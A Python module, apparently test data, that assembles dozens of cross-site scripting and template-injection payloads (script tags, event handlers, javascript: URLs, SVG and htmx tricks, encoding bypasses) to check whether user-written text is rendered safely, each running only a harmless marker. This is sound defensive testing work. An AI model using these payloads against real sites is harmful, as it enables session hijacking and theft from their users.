"""Markup in places of text, as a customer or rep may write it: each runs a script, or loads something."""

from __future__ import annotations

from itertools import product
from typing import Final

RUN: Final = "(window.__ran=window.__ran||[]).push(1)"

_CORES: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
)
_BEFORE: Final = (
    "", "\">", "'>", "--><!-- -->", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</text></svg>", "]]>", "</bdi></a>", "</noscript>", "</template>", "\\\">", "<svg><style>",
    "<a title=\"", "<math><mtext><table><mglyph><style>",
)  # fmt: skip
"""What ends the place where a text stands: an attribute, an element whose content is no markup, a drawing."""

_OTHERS: Final = (
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'" autofocus onfocus="{RUN}" tabindex="0',
    f"x onpointerrawupdate={RUN} ",
    f"javascript:{RUN}",
    f"  java\tscript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f'<a href="javascript:{RUN}" autofocus>x</a>',
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<base href='https://example.org/'>",
    "<link rel=stylesheet href='https://example.org/x.css'>",
    "<style>@import 'https://example.org/x.css';</style>",
    "<form action='https://example.org/'><button autofocus>x</button></form>",
    "<img src='https://example.org/pixel.gif'>",
    f"<div hx-get='/accounts' hx-trigger='load' hx-on::before-request='{RUN}'>x</div>",
    f"<div hx-on:click='{RUN}' hx-trigger='load'>x</div>",
    f"<div data-hx-on--load='{RUN}'>x</div>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></svg>",
    f"<math><a xlink:href='javascript:{RUN}'>x</a></math>",
    f"<table background='javascript:{RUN}'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<SCRIPT/x>{RUN}</SCRIPT>",
    f"<script x>{RUN}</script x>",
    f"<img/src/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<x onclick={RUN} style='position:fixed;inset:0' autofocus>",
    f"<button popovertarget=x onclick={RUN}>x</button>",
    f"<x id=x popover onbeforetoggle={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    "{{ 7 * 7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in (1,) %}{{ config }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('" + RUN + "')()}}",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<?xml ?><script>{RUN}</script>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"\u202e<script>{RUN}</script>",
    f"\u2028<img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<x contenteditable onblur={RUN} autofocus></x><input autofocus>",
    f"<input type=image src=x onerror={RUN}>",
    f"<link rel=prefetch href=x onload={RUN}>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script type=module>{RUN}</script>",
    "<script src=//example.org/x.js></script>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</dialog>",
)

PAYLOADS: Final = tuple(dict.fromkeys([*map("".join, product(_BEFORE, _CORES)), *_OTHERS]))
